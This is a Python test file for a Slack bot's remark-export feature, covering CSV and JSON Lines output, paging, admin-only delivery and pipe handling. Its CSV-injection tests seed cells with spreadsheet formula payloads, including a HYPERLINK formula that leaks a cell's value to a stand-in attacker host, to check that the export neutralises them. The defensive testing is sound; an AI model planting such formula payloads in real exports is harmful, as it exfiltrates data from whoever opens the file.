"""Export: admins get the workspace's remarks as CSV or JSON Lines, in Slack (a file in their
DM) or from the command line; streamed in pages, in a stable column order."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from click.testing import CliRunner
from sqlalchemy import insert

from bot.cli.main import main
from bot.domain.privacy import export
from storage.db import transaction
from storage.models import Remark, utcnow
from tests.conftest import settled
from tests.e2e import digest_support as ds
from tests.e2e.queries import ALICE, BOB, CARLA, SUPPORT, TEAM

EXPECTED = ["remark_id", "said_at", "customer", "process", "sentiment", "sentiment_score",
            "process_confidence", "endorsements", "author_user_id", "channel_id", "message_ts",
            "permalink", "text", "text_expired_at", "process_decided_by", "sentiment_decided_by",
            "source", "contact", "link", "score_kind", "score_value", "external_id",
            "language"]


async def seed(db) -> tuple[int, int]:
    await ds.workspace(db)
    billing = await ds.process(db, "Billing")
    old = await ds.remark(db, process_id=billing, sentiment="complaint", customer="Acme",
                          at=utcnow() - dt.timedelta(days=10), text='Charged "twice",\nagain')
    new = await ds.remark(db, process_id=None, sentiment="praise", at=utcnow() - dt.timedelta(days=1),
                          text="Lovely onboarding", captures=2)
    return old, new


def test_the_columns_are_stable() -> None:
    assert list(export.COLUMNS) == EXPECTED


async def test_cli_exports_csv_and_jsonl_with_since(db, database_url, tmp_path: Path):
    old, new = await seed(db)
    out = tmp_path / "r.csv"
    res = await asyncio.to_thread(CliRunner().invoke, main,
                                  ["export", "--team", TEAM, "--format", "csv", "--out", str(out)],
                                  env={"DATABASE_URL": database_url}, catch_exceptions=False)
    assert res.exit_code == 0, res.output
    assert "Exported 2 remark(s)" in res.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert list(rows[0].keys()) == EXPECTED
    assert [int(r["remark_id"]) for r in rows] == [old, new]
    assert rows[0]["text"] == 'Charged "twice",\nagain' and rows[0]["process"] == "Billing"
    assert rows[1]["process"] == "" and rows[1]["endorsements"] == "2"
    since = (utcnow() - dt.timedelta(days=3)).strftime("%Y-%m-%d")
    res = await asyncio.to_thread(CliRunner().invoke, main,
                                  ["export", "--team", TEAM, "--format", "jsonl", "--since", since],
                                  env={"DATABASE_URL": database_url}, catch_exceptions=False)
    assert res.exit_code == 0
    lines = [json.loads(x) for x in res.stdout.splitlines() if x.startswith("{")]
    assert [x["remark_id"] for x in lines] == [new]
    assert list(lines[0].keys()) == EXPECTED and lines[0]["said_at"].endswith("Z")


async def test_a_reader_that_stops_early_ends_the_export_quietly(db, database_url):
    """`earshot export | head -1` through a real pipe: once head has its line and exits, the
    export's next write meets a closed pipe. It must end quietly (no traceback, no "database
    error"), as `cat` would: exit status 141 (128 + SIGPIPE)."""
    await ds.workspace(db)
    at = utcnow()
    async with transaction(db) as s:  # ~400 KB of CSV: far more than a pipe's 64 KB buffer
        await s.execute(insert(Remark), [
            {"team_id": TEAM, "source_key": f"typed:{i}", "text": f"remark {i} " + "x" * 900,
             "said_at": at, "created_at": at, "updated_at": at} for i in range(400)])
    env = {**os.environ, "DATABASE_URL": database_url}
    export = subprocess.Popen([sys.executable, "-m", "bot", "export", "--team", TEAM],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    head = subprocess.run(["head", "-1"], stdin=export.stdout, capture_output=True, timeout=60)
    assert export.stdout is not None
    export.stdout.close()  # only head holds the read end; it has exited, so the pipe is closed
    _, err = await asyncio.to_thread(export.communicate, timeout=60)
    assert head.stdout.decode().startswith("remark_id,said_at,")
    assert export.returncode == 141, err.decode()
    stderr = err.decode()
    assert "database" not in stderr and "Traceback" not in stderr and "Error" not in stderr, stderr


async def test_pages_cover_every_remark_exactly_once(db):
    await ds.workspace(db)
    async with transaction(db) as s:
        ids = [await ds.remark(s, process_id=None, sentiment="neutral", at=utcnow(), text=f"r{i}")
               for i in range(25)]
    got = [r["remark_id"] async for r in export.rows(db, TEAM, page=7)]
    assert got == ids


async def test_an_admin_gets_the_file_in_their_dm(fake, slack, bot, db):
    await seed(db)
    delivery = await slack.slash(ALICE, SUPPORT, "export jsonl")
    assert delivery.status == 200
    await settled(bot)
    [complete] = await fake.wait_for("files.completeUploadExternal")
    dm, _ = fake.state.open_im(ALICE)
    assert complete.params["channel_id"] == dm.id
    [upload] = fake.calls_to("upload")
    files = [f for f in fake.state.files.values() if f["name"].endswith(".jsonl")]
    [f] = files
    content = f["content"].decode() if isinstance(f["content"], bytes) else f["content"]
    lines = [json.loads(x) for x in content.splitlines()]
    assert [x["text"] for x in lines] == ['Charged "twice",\nagain', "Lovely onboarding"]
    assert upload.params["bytes"] == len(content.encode())


async def test_others_are_told_privately_and_get_nothing(fake, slack, bot, db):
    await seed(db)
    delivery = await slack.slash(BOB, SUPPORT, "export csv")
    body = delivery.json()
    assert body["response_type"] == "ephemeral" and "Only workspace admins" in json.dumps(body)
    await settled(bot)
    assert fake.calls_to("files.getUploadURLExternal") == []
    assert CARLA  # the remarks' author is not involved


async def test_feedback_that_starts_with_the_word_is_still_filed(slack, bot, db):
    from tests.e2e.queries import remarks

    await slack.slash(BOB, SUPPORT, "Export to PDF is broken for Acme")
    await slack.slash(BOB, SUPPORT, "erase the double charge on Globex's invoice")
    await settled(bot)
    assert [r.text for r in await remarks(db)] == ["Export to PDF is broken for Acme",
                                                    "erase the double charge on Globex's invoice"]


# OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): cells that a
# spreadsheet would run as a formula.
HOSTILE_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
HOSTILE = {HOSTILE_TEXT: "+SUM(1+1)", "@import(evil)": "-Acme", "\tTabbed": "\rReturn",
           "'=already quoted": "Plain Co"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def seed_hostile(db) -> None:
    from sqlalchemy import update

    from storage.models import Remark

    await ds.workspace(db)
    for text, customer in HOSTILE.items():
        await ds.remark(db, process_id=None, sentiment="complaint", customer=customer,
                        at=utcnow() - dt.timedelta(days=1), text=text)
    async with transaction(db) as s:
        await s.execute(update(Remark).values(sentiment_score=-0.42))


def check_guarded(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE)
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-0.42"]
    assert [(r["text"], r["customer"]) for r in rows] == [
        ("'" + HOSTILE_TEXT, "'+SUM(1+1)"), ("'@import(evil)", "'-Acme"), ("'\tTabbed", "'\rReturn"),
        ("''=already quoted", "Plain Co")]
    # A score Earshot computed stays a number a spreadsheet can sum.
    assert {r["sentiment_score"] for r in rows} == {"-0.42"}


async def test_cli_csv_guards_formula_cells_and_jsonl_stays_exact(db, database_url, tmp_path: Path):
    await seed_hostile(db)
    out = tmp_path / "r.csv"
    res = await asyncio.to_thread(CliRunner().invoke, main,
                                  ["export", "--team", TEAM, "--format", "csv", "--out", str(out)],
                                  env={"DATABASE_URL": database_url}, catch_exceptions=False)
    assert res.exit_code == 0, res.output
    with out.open(encoding="utf-8", newline="") as f:  # keep the \r of a cell as it is
        check_guarded(f.read())
    res = await asyncio.to_thread(CliRunner().invoke, main, ["export", "--team", TEAM, "--format", "jsonl"],
                                  env={"DATABASE_URL": database_url}, catch_exceptions=False)
    lines = [json.loads(x) for x in res.stdout.splitlines() if x.startswith("{")]
    assert [(x["text"], x["customer"]) for x in lines] == list(HOSTILE.items())
    assert {x["sentiment_score"] for x in lines} == {-0.42}


async def test_the_csv_sent_in_slack_guards_formula_cells(fake, slack, bot, db):
    await seed_hostile(db)
    assert (await slack.slash(ALICE, SUPPORT, "export csv")).status == 200
    await settled(bot)
    await fake.wait_for("files.completeUploadExternal")
    [f] = [f for f in fake.state.files.values() if f["name"].endswith(".csv")]
    content = f["content"].decode() if isinstance(f["content"], bytes) else f["content"]
    check_guarded(content)
